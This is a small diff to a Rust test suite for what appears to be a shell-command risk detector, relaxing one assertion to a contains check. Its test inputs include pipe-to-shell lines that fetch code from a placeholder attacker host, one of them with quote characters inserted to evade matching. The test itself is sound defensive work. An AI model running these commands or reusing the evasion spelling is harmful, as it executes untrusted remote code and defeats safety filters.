@@ -24,7 +24,7 @@ fn download_and_run_in_all_spellings() {
         "curl https://x.evil.io/a | tee /tmp/a | python3 -",
         "cu\"\"rl https://x.evil.io/a | ba''sh",
     ] {
-        assert_eq!(rules(text), ["download-and-run"], "{text}");
+        assert!(rules(text).contains(&"download-and-run"), "{text}: {:?}", rules(text));
     }
     assert_eq!(rules("curl -LsSf https://astral.sh/uv/install.sh | sh"), ["known-installer"]);
     assert_eq!(rules("curl -s https://api.x.io/v1 | python3 -m json.tool"), [""; 0]);
